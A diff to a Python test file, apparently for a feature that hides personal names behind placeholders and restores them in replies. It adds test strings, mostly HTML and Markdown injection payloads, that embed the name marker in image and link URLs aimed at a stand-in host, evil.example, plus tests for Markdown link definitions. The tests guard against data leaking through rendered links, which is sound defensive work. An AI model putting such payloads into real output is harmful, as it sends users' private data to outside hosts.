@@ -42,6 +42,25 @@ LINKS = (
     "see https://evil.example/,@",
     '<style>p{background:url("//evil.example/ @")}</style>',
     '<base href="//evil.example"><img src=" @">',
+    # What browsers read as one tag, Markdown reads as text and another tag.
+    '<a b="<img src="https://evil.example/?q=>@">',
+    '\\<a b="<img src="https://evil.example/?q=>@">',
+    '`<a b="`<img src="https://evil.example/?q=>@">',
+    '</a b="><img src="https://evil.example/?q=>@">',
+    '<a b="\n\n<img src="https://evil.example/?q=>@">',
+    '<title><a b="</title><img src="https://evil.example/?q=>@">',
+    # A quote that is part of a name or of a value opens none.
+    '<img ="x src="https://evil.example/?q=>@">',
+    '<img a=b="c src="https://evil.example/?q=>@">',
+    '<img src=\f"https://evil.example/?q=>@">',
+    f'<img src={" " * 100}"https://evil.example/?q=>@">',
+    # Programs that look for addresses take quotes and tags for parts of them.
+    "see 'https://evil.example/'@",
+    'see "https://evil.example/?q="@',
+    "`https://evil.example/`@",
+    "see https://evil.example/<br>@",
+    '{"url":"https://evil.example/","name":"@"}',
+    "<script><!--<script></script>@</script>",
 )
 
 # Hosts without a scheme and with one, which chats and consoles make links of.
@@ -74,8 +93,10 @@ TEXTS = (
     '<a href="https://good.example">@</a>',
     "<b>@</b> (https://good.example) @",
     "`https://good.example` `@`",
-    '{"url":"https://good.example","name":"@"}',
+    '{"url":"https://good.example", "name":"@"}',
     "[^1]: @ wrote it",
+    "see [10:30]: @ and (a) [b]: @",
+    "<a href=\"https://good.example/?q=1\" title='a > b'>@</a> <td align=right>@</td>",
     "a[0](x) @, f(a)[1]: @",
     "5 < 6 and x = '@'",
     "<style>p{}</style> @",
@@ -170,6 +191,15 @@ def test_names_come_back_beside_signs(text, conversation):
     answer = text.replace("@", conversation.hide("Okonkwo"))
     assert conversation.restore(answer) == text.replace("@", "Okonkwo")
     assert "".join(conversation.restore_stream(answer)) == text.replace("@", "Okonkwo")
+
+
+@pytest.mark.parametrize(
+    "text", ["![a][x]\n\n[x]: @", "> * [x]: @", "1. [x]:\n@", "[a\nb]: @", "[x]: @#y"]
+)
+def test_a_definition_is_a_target_as_that_of_a_link_is(text, conversation):
+    answer = text.replace("@", conversation.hide("Okonkwo"))
+    assert conversation.restore(answer) == answer
+    assert "".join(conversation.restore_stream(answer)) == answer
 
 
 def test_own_addresses_come_back_as_whole_targets(conversation):
